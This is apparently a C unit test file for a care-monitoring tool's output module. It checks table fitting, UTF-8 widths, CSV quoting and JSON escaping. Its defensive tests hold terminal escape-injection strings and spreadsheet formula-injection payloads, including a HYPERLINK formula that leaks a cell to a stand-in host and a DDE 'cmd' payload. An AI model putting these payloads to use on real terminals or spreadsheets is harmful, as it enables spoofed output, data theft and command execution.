/*
 * test_output.c - tables, CSV and JSON (output.h) without a server: display
 * widths of UTF-8 (wide and combining characters), cutting to the terminal
 * width, stored text that must never reach the terminal raw (control
 * characters, invalid UTF-8), CSV quoting, JSON escaping and booleans,
 * numbers aligned right, colour only when asked for, and fitting a table to
 * a narrow terminal without cutting an identifier or a date.
 */
#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "testcore.h"
#include "carewatch/output.h"

/* Print t in format into a string (caller frees). */
static char *
render(const struct cw_table *t, enum cw_format format, int width, bool colour)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	assert_non_null(f);
	cw_table_print(t, f, format, width, colour);
	fclose(f);
	return buf;
}

static struct cw_table *
table1(const struct cw_col *cols, int ncols, const char *const *cells)
{
	struct cw_table *t = cw_table_new(NULL, cols, ncols);

	assert_non_null(t);
	assert_true(cw_table_add(t, cells));
	return t;
}

static const char *const locales[] = {"C", "C.UTF-8"};

static void
test_output_display_width_counts_columns(void **state)
{
	static const struct {
		const char *s;
		int w;
	} cases[] = {
		{"", 0},
		{"Ashfield House", 14},
		{"Caf\xC3\xA9", 4},                          /* é, precomposed */
		{"Cafe\xCC\x81", 4},                         /* e + combining acute */
		{"\xE6\x97\xA5\xE6\x9C\xAC", 4},             /* 日本: wide */
		{"\xEA\xB0\x80", 2},                         /* 가: Hangul, wide */
		{"\xF0\x9F\x98\x80", 2},                     /* 😀: wide */
		{"a\x01" "b", 8},                            /* control: shown as \u0001 */
		{"a\xFF" "b", 6},                            /* invalid byte: shown as \xff */
		{"a\n\tb", 6},                               /* \n and \t */
		{"\xE2\x80\x8B", 0},                         /* zero width space */
	};

	(void)state;
	/* The same answer with and without a UTF-8 locale (cron has none). */
	for (size_t l = 0; l < sizeof(locales) / sizeof(locales[0]); l++) {
		if (setlocale(LC_CTYPE, locales[l]) == NULL)
			continue;
		for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
			if (cw_display_width(cases[i].s) != cases[i].w)
				fail_msg("locale %s, case %zu: width %d, expected %d", locales[l], i,
					 cw_display_width(cases[i].s), cases[i].w);
	}
	setlocale(LC_CTYPE, "C.UTF-8");
}

/* Every line of s is at most width display columns. */
static void
assert_lines_fit(const char *s, int width)
{
	char *copy = strdup(s), *save = NULL;

	for (char *line = strtok_r(copy, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
		if (cw_display_width(line) > width)
			fail_msg("line wider than %d columns (%d): %s", width, cw_display_width(line), line);
	free(copy);
}

static void
test_output_table_is_cut_to_the_terminal_width(void **state)
{
	static const struct cw_col cols[] = {
		{"name", "Provider", false}, {"score", "Score", true}, {"note", "Note", false},
	};
	const char *cells[3] = {"The Old Rectory Residential and Nursing Home for the Elderly", "812.50",
				"Requires improvement in the safe and well-led domains after inspection"};
	struct cw_table *t = table1(cols, 3, cells);
	char *wide, *narrow;

	(void)state;
	wide = render(t, CW_FMT_TABLE, 0, false);
	assert_non_null(strstr(wide, cells[0]));
	assert_non_null(strstr(wide, cells[2]));
	narrow = render(t, CW_FMT_TABLE, 60, false);
	assert_lines_fit(narrow, 60);
	/* Cut text ends in an ellipsis; the number is never cut. */
	assert_non_null(strstr(narrow, "\xE2\x80\xA6"));
	assert_non_null(strstr(narrow, "812.50"));
	assert_null(strstr(narrow, cells[0]));
	assert_non_null(strstr(narrow, "(1 row)\n"));
	free(wide);
	free(narrow);
	cw_table_free(t);
}

static void
test_output_wide_characters_keep_columns_aligned(void **state)
{
	static const struct cw_col cols[] = {{"name", "Name", false}, {"band", "Band", false}};
	const char *rows[3][2] = {
		{"\xE6\x97\xA5\xE6\x9C\xAC\xE8\xAA\x9E House", "high"},  /* 日本語 House */
		{"Cafe\xCC\x81 Court", "low"},                          /* combining accent */
		{"Ashfield", "medium"},
	};
	struct cw_table *t = cw_table_new(NULL, cols, 2);
	char *out, *save = NULL, *line;
	int col = -1, n = 0;

	(void)state;
	for (int i = 0; i < 3; i++)
		assert_true(cw_table_add(t, rows[i]));
	out = render(t, CW_FMT_TABLE, 0, false);
	/* The Band column starts at the same display column on every row. */
	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *band = strstr(line, "high");
		if (band == NULL)
			band = strstr(line, "low");
		if (band == NULL)
			band = strstr(line, "medium");
		if (band == NULL)
			continue;
		{
			char save_c = *band;
			int c;
			*band = '\0';
			c = cw_display_width(line);
			*band = save_c;
			if (col < 0)
				col = c;
			assert_int_equal(c, col);
			n++;
		}
	}
	assert_int_equal(n, 3);
	assert_int_equal(col, 12 + 2);   /* "日本語 House" is 12 columns, then the gap */
	free(out);
	cw_table_free(t);
}

static void
test_output_wide_characters_are_cut_whole(void **state)
{
	static const struct cw_col cols[] = {{"a", "A", false}, {"b", "B", false}};
	/* Ten wide characters (20 columns) in a column cut to fit 14. */
	const char *cells[2] = {"\xE6\x97\xA5\xE6\x97\xA5\xE6\x97\xA5\xE6\x97\xA5\xE6\x97\xA5"
				"\xE6\x97\xA5\xE6\x97\xA5\xE6\x97\xA5\xE6\x97\xA5\xE6\x97\xA5", "x"};
	struct cw_table *t = table1(cols, 2, cells);
	char *out = render(t, CW_FMT_TABLE, 14, false);

	(void)state;
	assert_lines_fit(out, 14);
	/* No half of a character: the output is valid UTF-8 made of whole 日. */
	assert_non_null(strstr(out, "\xE6\x97\xA5\xE2\x80\xA6"));
	free(out);
	cw_table_free(t);
}

static void
test_output_control_characters_and_bad_utf8_never_reach_the_terminal(void **state)
{
	static const struct cw_col cols[] = {{"summary", "Summary", false}};
	const char *cells[1] = {"Red\x1b[31m alert\x07 \xFF\xFE end\r\n"};
	static const struct cw_col hostile_cols[] = {{"k", "Bad\x1b]0;title\x07", false}};
	const char *plain[1] = {"x"};
	struct cw_table *t = table1(cols, 1, cells);
	struct cw_table *h = table1(hostile_cols, 1, plain);
	char *out = render(t, CW_FMT_TABLE, 0, false), *csv, *json, *hdr;

	(void)state;
	assert_null(strchr(out, '\x1b'));
	assert_null(strchr(out, '\x07'));
	assert_null(strchr(out, '\r'));
	assert_null(strstr(out, "\xFF"));
	assert_non_null(strstr(out, "Red\\u001b[31m alert\\u0007 \\xff\\xfe end\\r\\n"));
	/* Headers, titles and footers are text too (a title may name an
	 * officer as typed); a footer keeps its line breaks. */
	hdr = render(h, CW_FMT_TABLE, 0, false);
	assert_null(strchr(hdr, '\x1b'));
	free(hdr);
	{
		struct cw_table *titled = cw_table_new("Worklist of \x1b[2Jmallory\xC0", hostile_cols, 1);
		assert_true(cw_table_add(titled, plain));
		cw_table_footer(titled, "total 3\nflag:\x07 raised");
		hdr = render(titled, CW_FMT_TABLE, 0, false);
		assert_null(strchr(hdr, '\x1b'));
		assert_null(strchr(hdr, '\x07'));
		assert_non_null(strstr(hdr, "Worklist of \\u001b[2Jmallory\\xc0\n"));
		assert_non_null(strstr(hdr, "total 3\nflag:\\u0007 raised\n"));
		cw_table_free(titled);
	}
	/* CSV carries the stored text exactly; JSON escapes it. */
	csv = render(t, CW_FMT_CSV, 0, false);
	assert_string_equal(csv, "summary\n\"Red\x1b[31m alert\x07 \xFF\xFE end\r\n\"\n");
	json = render(t, CW_FMT_JSON, 0, false);
	assert_string_equal(json, "[\n {\"summary\": \"Red\\u001b[31m alert\\u0007 \\ufffd\\ufffd end\\r\\n\"}\n]\n");
	free(out);
	free(hdr);
	free(csv);
	free(json);
	cw_table_free(t);
	cw_table_free(h);
}

static void
test_output_csv_quotes_what_needs_quoting(void **state)
{
	static const struct cw_col cols[] = {
		{"name", "Name", false}, {"beds", "Beds", true}, {"note", "Note", false},
		{"empty", "Empty", false},
	};
	const char *rows[3][4] = {
		{"Smith, Jones & Co", "40", "said \"fine\"", NULL},
		{"Plain", "7", "two\nlines", ""},
		{" spaced ", "-1", "caf\xC3\xA9", "x"},
	};
	struct cw_table *t = cw_table_new("ignored in CSV", cols, 4);
	char *csv;

	(void)state;
	for (int i = 0; i < 3; i++)
		assert_true(cw_table_add(t, rows[i]));
	cw_table_footer(t, "ignored too");
	csv = render(t, CW_FMT_CSV, 0, false);
	assert_string_equal(csv, "name,beds,note,empty\n"
				 "\"Smith, Jones & Co\",40,\"said \"\"fine\"\"\",\n"
				 "Plain,7,\"two\nlines\",\n"
				 " spaced ,-1,caf\xC3\xA9,x\n");
	free(csv);
	cw_table_free(t);
}

static void
test_output_json_escapes_and_types(void **state)
{
	static const struct cw_col cols[] = {
		{"name", "Name", false}, {"score", "Score", true}, {"code", "Code", true},
		{"gone", "Gone", false},
	};
	const char *rows[2][4] = {
		{"Quote \" back\\slash\ttab\x01", "812.5", "007", NULL},
		{"\xE6\x97\xA5 ok", "-3", "1e3", "text"},
	};
	struct cw_table *t = cw_table_new(NULL, cols, 4), *empty = cw_table_new(NULL, cols, 4);
	char *json, *none;

	(void)state;
	for (int i = 0; i < 2; i++)
		assert_true(cw_table_add(t, rows[i]));
	json = render(t, CW_FMT_JSON, 0, false);
	assert_string_equal(json, "[\n"
				  " {\"name\": \"Quote \\\" back\\\\slash\\ttab\\u0001\", \"score\": 812.5,"
				  " \"code\": \"007\", \"gone\": null},\n"
				  " {\"name\": \"\xE6\x97\xA5 ok\", \"score\": -3, \"code\": 1e3, \"gone\": \"text\"}\n"
				  "]\n");
	none = render(empty, CW_FMT_JSON, 0, false);
	assert_string_equal(none, "[]\n");
	free(json);
	free(none);
	cw_table_free(t);
	cw_table_free(empty);
}

/* A provider's row as the lists have it: a long name, a CQC ID, a date, a
 * UUID, free text, and a column that may be hidden. */
static const struct cw_col fit_cols[] = {
	{"name", "Provider", false},
	{"cqc_location_id", "CQC ID", CW_COL_ID},
	{"due", "Due", CW_COL_DATE},
	{"care_type", "Care type", CW_COL_HIDE(1)},
	{"summary", "Summary", false},
	{"id", "ID", CW_COL_UUID},
};
static const char *const fit_rows[2][6] = {
	{"The Old Rectory Residential and Nursing Home for the Elderly", "1-10689647123",
	 "2026-12-07 14:30", "residential",
	 "Missed medication on two evenings; family not told",
	 "2740ab8c-e1f2-4a3b-8c4d-5e6f7a8b9c0d"},
	{"Birch Court", "1-2000000002", "2027-01-15 09:00", "home_care", "Late calls",
	 "33333333-3333-4333-8333-333333333333"},
};

static void
test_output_fitting_never_cuts_an_id_or_a_date(void **state)
{
	static const int widths[] = {60, 80, 100, 160};
	struct cw_table *t = cw_table_new("Providers", fit_cols, 6);
	char *out;

	(void)state;
	for (int i = 0; i < 2; i++)
		assert_true(cw_table_add(t, fit_rows[i]));
	for (size_t k = 0; k < sizeof(widths) / sizeof(widths[0]); k++) {
		int w = widths[k];

		out = render(t, CW_FMT_TABLE, w, false);
		for (int i = 0; i < 2; i++) {
			/* Identifiers and dates whole, at every width. */
			if (strstr(out, fit_rows[i][1]) == NULL || strstr(out, fit_rows[i][2]) == NULL)
				fail_msg("at %d columns an ID or date is cut:\n%s", w, out);
			/* The UUID only with --wide. */
			if (strstr(out, fit_rows[i][5]) || strstr(out, "2740ab8c"))
				fail_msg("at %d columns the UUID is shown:\n%s", w, out);
		}
		assert_lines_fit(out, w);
		assert_non_null(strstr(out, "(2 rows)\n("));
		if (w == 60)
			/* Free text at its minimum (12 + 13 + 16 + 11 + 12 and the gaps
			 * make 72) and still too wide: the care type goes. */
			assert_null(strstr(out, "residential"));
		else
			assert_non_null(strstr(out, "residential"));
		if (w == 160) {
			/* 60 + 13 + 16 + 11 + 50 and the gaps: 158, all whole. */
			assert_non_null(strstr(out, fit_rows[0][0]));
			assert_non_null(strstr(out, fit_rows[0][4]));
			assert_non_null(strstr(out, "(1 column hidden: ID; --wide or --format csv for all)\n"));
		}
		free(out);
	}
	/* Width 0 (not a terminal): nothing cut, but the UUID is still for
	 * --wide, and the note says so. */
	out = render(t, CW_FMT_TABLE, 0, false);
	for (int c = 0; c < 5; c++)
		assert_non_null(strstr(out, fit_rows[0][c]));
	assert_null(strstr(out, fit_rows[0][5]));
	assert_non_null(strstr(out, "(1 column hidden: ID; --wide or --format csv for all)\n"));
	assert_null(strstr(out, "\xE2\x80\xA6"));
	free(out);
	/* CW_WIDTH_ALL (--wide): every column, nothing cut. */
	out = render(t, CW_FMT_TABLE, CW_WIDTH_ALL, false);
	for (int c = 0; c < 6; c++)
		assert_non_null(strstr(out, fit_rows[0][c]));
	assert_null(strstr(out, "hidden"));
	assert_null(strstr(out, "\xE2\x80\xA6"));
	free(out);
	/* CSV and JSON have every column whatever the width. */
	out = render(t, CW_FMT_CSV, 60, false);
	assert_non_null(strstr(out, "name,cqc_location_id,due,care_type,summary,id\n"));
	assert_non_null(strstr(out, fit_rows[0][5]));
	free(out);
	out = render(t, CW_FMT_JSON, 60, false);
	assert_non_null(strstr(out, "\"id\": \"2740ab8c-e1f2-4a3b-8c4d-5e6f7a8b9c0d\""));
	free(out);
	cw_table_free(t);
}

static void
test_output_fitting_hides_the_highest_first_and_never_cuts_to_fit(void **state)
{
	static const struct cw_col cols[] = {
		{"name", "Name", false}, {"a", "A", CW_COL_HIDE(1)}, {"b", "B", CW_COL_HIDE(2)},
		{"c", "C", CW_COL_HIDE(1)}, {"ref", "Ref", CW_COL_ID},
	};
	const char *cells[5] = {"Ashfield House and Gardens", "aaaaaaaaaa", "bbbbbbbbbb", "cccccccccc",
				"REF-0123456789-ABCDEFGHIJ"};
	struct cw_table *t = table1(cols, 5, cells);
	char *out;

	(void)state;
	/* 26 + 3 * 10 + 25 + 8 gaps = 89; with the name at 12, 75: at 80 the
	 * name is cut and nothing hidden; at 70 one column must go, B first. */
	out = render(t, CW_FMT_TABLE, 80, false);
	assert_non_null(strstr(out, "bbbbbbbbbb"));
	assert_non_null(strstr(out, "Ashfield House a\xE2\x80\xA6"));
	assert_null(strstr(out, "hidden"));
	free(out);
	out = render(t, CW_FMT_TABLE, 70, false);
	assert_null(strstr(out, "bbbb"));
	assert_non_null(strstr(out, "aaaaaaaaaa"));
	assert_non_null(strstr(out, "cccccccccc"));
	assert_non_null(strstr(out, "(1 column hidden: B; --wide or --format csv for all)\n"));
	free(out);
	/* Of equals, the rightmost goes first. */
	out = render(t, CW_FMT_TABLE, 60, false);
	assert_null(strstr(out, "bbbb"));
	assert_null(strstr(out, "cccc"));
	assert_non_null(strstr(out, "aaaaaaaaaa"));
	free(out);
	/* Narrower than the ID itself: everything spare hidden, the name cut
	 * to 8, and the ID still whole, past the edge. */
	out = render(t, CW_FMT_TABLE, 20, false);
	assert_non_null(strstr(out, "REF-0123456789-ABCDEFGHIJ"));
	assert_non_null(strstr(out, "Ashfiel\xE2\x80\xA6  REF-"));
	assert_non_null(strstr(out, "(3 columns hidden; --wide or --format csv for all)\n"));
	free(out);
	cw_table_free(t);
}

static void
test_output_json_booleans_from_yes_and_no(void **state)
{
	static const struct cw_col cols[] = {
		{"login", "Login", CW_COL_ID}, {"active", "Active", CW_COL_BOOL},
		{"on_leave", "On leave", CW_COL_BOOL}, {"note", "Note", false},
	};
	const char *rows[3][4] = {
		{"alice", "yes", "no", "yes"},
		{"bob", "true", "f", "no"},
		{"carol", NULL, "maybe", NULL},
	};
	struct cw_table *t = cw_table_new(NULL, cols, 4);
	char *json, *csv, *table;

	(void)state;
	for (int i = 0; i < 3; i++)
		assert_true(cw_table_add(t, rows[i]));
	json = render(t, CW_FMT_JSON, 0, false);
	/* A boolean column's yes / no (and t / f, true / false) are JSON
	 * booleans; anything else stays what it is; a text column's "yes" is
	 * a string. */
	assert_string_equal(json, "[\n"
				  " {\"login\": \"alice\", \"active\": true, \"on_leave\": false, \"note\": \"yes\"},\n"
				  " {\"login\": \"bob\", \"active\": true, \"on_leave\": false, \"note\": \"no\"},\n"
				  " {\"login\": \"carol\", \"active\": null, \"on_leave\": \"maybe\", \"note\": null}\n"
				  "]\n");
	/* CSV and the table show them as they are. */
	csv = render(t, CW_FMT_CSV, 0, false);
	assert_non_null(strstr(csv, "\nalice,yes,no,yes\n"));
	table = render(t, CW_FMT_TABLE, 0, false);
	assert_non_null(strstr(table, "alice  yes     no"));
	free(json);
	free(csv);
	free(table);
	cw_table_free(t);
}

static void
test_output_json_pieces_make_one_object(void **state)
{
	static const struct cw_col head_cols[] = {
		{"case", "Case", CW_COL_NUMBER | CW_COL_ID}, {"flag", "Flag", CW_COL_BOOL},
		{"closed", "Closed", CW_COL_DATE},
	};
	static const struct cw_col hist_cols[] = {{"when", "When", CW_COL_DATE}, {"event", "Event", false}};
	const char *head_row[3] = {"12", "no", NULL};
	const char *hist_row[2] = {"2026-12-07 14:30", "opened"};
	struct cw_table *head = table1(head_cols, 3, head_row), *hist = table1(hist_cols, 2, hist_row);
	struct cw_table *none = cw_table_new(NULL, hist_cols, 2);
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	assert_non_null(f);
	fputc('{', f);
	cw_json_members(head, 0, f);
	fputs(", \"history\": ", f);
	cw_json_array(hist, f);
	fputs(", \"none\": ", f);
	cw_json_array(none, f);
	fputc('}', f);
	cw_json_members(head, 5, f);      /* no such row: nothing */
	fclose(f);
	assert_string_equal(buf, "{\"case\": 12, \"flag\": false, \"closed\": null, \"history\": [\n"
				 " {\"when\": \"2026-12-07 14:30\", \"event\": \"opened\"}\n], \"none\": []}");
	free(buf);
	cw_table_free(head);
	cw_table_free(hist);
	cw_table_free(none);
}

static void
test_output_numbers_are_right_aligned(void **state)
{
	static const struct cw_col cols[] = {{"name", "Name", false}, {"score", "Score", true},
					     {"band", "Band", false}};
	const char *rows[3][3] = {{"A", "5", "low"}, {"B", "123.25", "high"}, {"C", NULL, "-"}};
	struct cw_table *t = cw_table_new(NULL, cols, 3);
	char *out;

	(void)state;
	for (int i = 0; i < 3; i++)
		assert_true(cw_table_add(t, rows[i]));
	out = render(t, CW_FMT_TABLE, 0, false);
	assert_string_equal(out, "Name   Score  Band\n"
				 "\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80  "
				 "\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80  "
				 "\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80\xE2\x94\x80\n"
				 "A          5  low\n"
				 "B     123.25  high\n"
				 "C             -\n"
				 "(3 rows)\n");
	free(out);
	cw_table_free(t);
}

static void
test_output_colour_only_when_asked_and_never_with_no_color(void **state)
{
	static const struct cw_col cols[] = {{"case", "Case", true}, {"status", "Status", false}};
	const char *rows[2][2] = {{"1", "OVERDUE"}, {"2", ""}};
	struct cw_table *t = cw_table_new("Worklist", cols, 2);
	char *plain, *colour;

	(void)state;
	for (int i = 0; i < 2; i++)
		assert_true(cw_table_add(t, rows[i]));
	cw_table_mark_last(t, NULL);
	assert_true(cw_table_add(t, rows[0]));
	cw_table_mark_last(t, "!");
	plain = render(t, CW_FMT_TABLE, 0, false);
	assert_null(strchr(plain, '\x1b'));
	/* Without colour a marked row shows its mark. */
	assert_non_null(strstr(plain, "! "));
	colour = render(t, CW_FMT_TABLE, 0, true);
	assert_non_null(strstr(colour, "\x1b[1mWorklist\x1b[0m\n"));
	assert_non_null(strstr(colour, "\x1b[1;31m"));
	free(plain);
	free(colour);
	cw_table_free(t);
	/* The decision: a terminal, and NO_COLOR unset or empty. */
	setenv("NO_COLOR", "1", 1);
	assert_false(cw_output_colour());
	setenv("NO_COLOR", "", 1);
	assert_int_equal(cw_output_colour(), isatty(STDOUT_FILENO) != 0);
	unsetenv("NO_COLOR");
	assert_int_equal(cw_output_colour(), isatty(STDOUT_FILENO) != 0);
	setenv("NO_COLOR", "1", 1);
}

static void
test_output_width_comes_from_columns_or_the_terminal(void **state)
{
	(void)state;
	setenv("COLUMNS", "57", 1);
	assert_int_equal(cw_output_width(), 57);
	setenv("COLUMNS", "junk", 1);
	if (!isatty(STDOUT_FILENO))
		assert_int_equal(cw_output_width(), 0);
	unsetenv("COLUMNS");
	if (!isatty(STDOUT_FILENO))
		assert_int_equal(cw_output_width(), 0);
}

static void
test_output_format_names(void **state)
{
	(void)state;
	assert_int_equal(cw_format_parse("table", false), CW_FMT_TABLE);
	assert_int_equal(cw_format_parse("csv", false), CW_FMT_CSV);
	assert_int_equal(cw_format_parse("json", false), CW_FMT_JSON);
	assert_int_equal(cw_format_parse("html", false), -1);
	assert_int_equal(cw_format_parse("html", true), CW_FMT_HTML);
	/* Formats in any case, as vocabularies are (--format CSV). */
	assert_int_equal(cw_format_parse("JSON", false), CW_FMT_JSON);
	assert_int_equal(cw_format_parse("Html", true), CW_FMT_HTML);
	assert_int_equal(cw_format_parse("jsonx", false), -1);
	assert_int_equal(cw_format_parse(NULL, false), -1);
}

/* Write s with cw_text_put into a string (caller frees). */
static char *
text_put(const char *s, const char *indent)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	assert_non_null(f);
	cw_text_put(f, s, indent);
	fclose(f);
	return buf;
}

/* The record an attacker stores: clear the screen, home the cursor, print
 * a fake verdict, retitle the window, and the same again with 8-bit C1
 * controls (CSI U+009B, OSC U+009D, ST U+009C). */
#define HOSTILE "Ashfield\x1b[2J\x1b[HALL CLEAR\x1b]0;owned\x07\r\xC2\x9B" "2J\xC2\x9D" "0;t\xC2\x9C\x7F end"

static void
test_output_stored_text_is_shown_with_visible_escapes(void **state)
{
	static const struct cw_col cols[] = {{"name", "Provider", false}, {"n", "N", true}};
	const char *cells[2] = {HOSTILE, "1"};
	struct cw_table *t = table1(cols, 2, cells);
	char *one, *lines, *table, *json, buf[64];

	(void)state;
	/* One line (a name): everything escaped, newline and tab included. */
	one = text_put(HOSTILE "\n\tnext", NULL);
	assert_string_equal(one, "Ashfield\\u001b[2J\\u001b[HALL CLEAR\\u001b]0;owned\\u0007\\r"
				 "\\u009b2J\\u009d0;t\\u009c\\u007f end\\n\\tnext");
	/* Multi-line free text under a heading: newlines and tabs kept, each
	 * line indented; CR and the rest still escaped. */
	lines = text_put("first line\r\nsecond\tcolumn\n\x1b[31mthird\xFF", "    ");
	assert_string_equal(lines, "first line\\r\n    second\tcolumn\n    \\u001b[31mthird\\xff");
	/* Into a buffer, cut before an escape that does not fit. */
	assert_string_equal(cw_text_escape("ab\x1b[2J", buf, sizeof(buf)), "ab\\u001b[2J");
	assert_string_equal(cw_text_escape("ab\x1b[2J", buf, 8), "ab");
	assert_string_equal(cw_text_escape("caf\xC3\xA9\x9B", buf, 6), "caf\xC3\xA9");
	assert_string_equal(cw_text_escape(NULL, buf, sizeof(buf)), "");
	/* The table shows the same escapes, aligned by their width. */
	table = render(t, CW_FMT_TABLE, 0, false);
	for (const char *p = table; *p; p++)
		if ((unsigned char)*p < 0x20 && *p != '\n')
			fail_msg("raw control character 0x%02x in the table:\n%s", (unsigned char)*p, table);
	assert_null(strstr(table, "\xC2\x9B"));
	assert_null(strstr(table, "\x7F"));
	assert_non_null(strstr(table, "Ashfield\\u001b[2J\\u001b[HALL CLEAR\\u001b]0;owned\\u0007\\r"
				      "\\u009b2J\\u009d0;t\\u009c\\u007f end  1\n"));
	/* JSON escapes C1 and DEL too, so JSON on a terminal is safe. */
	json = render(t, CW_FMT_JSON, 0, false);
	assert_string_equal(json, "[\n {\"name\": \"Ashfield\\u001b[2J\\u001b[HALL CLEAR\\u001b]0;owned"
				  "\\u0007\\r\\u009b2J\\u009d0;t\\u009c\\u007f end\", \"n\": 1}\n]\n");
	free(one);
	free(lines);
	free(table);
	free(json);
	cw_table_free(t);
}

static void
test_output_csv_cells_that_look_like_formulas_are_neutralised(void **state)
{
	static const struct cw_col cols[] = {{"name", "Name", false}, {"score", "Score", true}};
	const char *rows[][2] = {
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "-3.5"},
		{"+1+1", "-12"},
		{"-2+3+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "=1+1"},
		{"\tTabbed", "+5"},
		{"\rReturn", "12.25"},
		{"Plain - dash later", "-.5"},
	};
	struct cw_table *t = cw_table_new(NULL, cols, 2);
	char *csv, *buf = NULL;
	size_t len = 0;
	FILE *f;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		assert_true(cw_table_add(t, rows[i]));
	csv = render(t, CW_FMT_CSV, 0, false);
	/* Text that a spreadsheet would run gets a leading ' and quotes; a
	 * plain number in the numeric column stays a number; anything else
	 * in that column is text like any other. */
	assert_string_equal(csv, "name,score\n"
				 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",-3.5\n"
				 "\"'+1+1\",-12\n"
				 "\"'-2+3+cmd|' /C calc'!A0\",\"'-1+cmd|' /C calc'!A0\"\n"
				 "\"'@SUM(A1:A9)\",\"'=1+1\"\n"
				 "\"'\tTabbed\",\"'+5\"\n"
				 "\"'\rReturn\",12.25\n"
				 "Plain - dash later,\"'-.5\"\n");
	/* cw_csv_field alone knows no column: a leading minus is text. */
	f = open_memstream(&buf, &len);
	assert_non_null(f);
	cw_csv_field(f, "-1");
	fputc(',', f);
	cw_csv_field(f, "");
	fputc(',', f);
	cw_csv_field(f, NULL);
	fputc(',', f);
	cw_csv_field(f, "ok");
	fclose(f);
	assert_string_equal(buf, "\"'-1\",,,ok");
	free(buf);
	free(csv);
	cw_table_free(t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_output_display_width_counts_columns),
		cmocka_unit_test(test_output_table_is_cut_to_the_terminal_width),
		cmocka_unit_test(test_output_wide_characters_keep_columns_aligned),
		cmocka_unit_test(test_output_wide_characters_are_cut_whole),
		cmocka_unit_test(test_output_control_characters_and_bad_utf8_never_reach_the_terminal),
		cmocka_unit_test(test_output_csv_quotes_what_needs_quoting),
		cmocka_unit_test(test_output_json_escapes_and_types),
		cmocka_unit_test(test_output_fitting_never_cuts_an_id_or_a_date),
		cmocka_unit_test(test_output_fitting_hides_the_highest_first_and_never_cuts_to_fit),
		cmocka_unit_test(test_output_json_booleans_from_yes_and_no),
		cmocka_unit_test(test_output_json_pieces_make_one_object),
		cmocka_unit_test(test_output_numbers_are_right_aligned),
		cmocka_unit_test(test_output_colour_only_when_asked_and_never_with_no_color),
		cmocka_unit_test(test_output_width_comes_from_columns_or_the_terminal),
		cmocka_unit_test(test_output_format_names),
		cmocka_unit_test(test_output_stored_text_is_shown_with_visible_escapes),
		cmocka_unit_test(test_output_csv_cells_that_look_like_formulas_are_neutralised),
	};

	setlocale(LC_CTYPE, "C.UTF-8");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
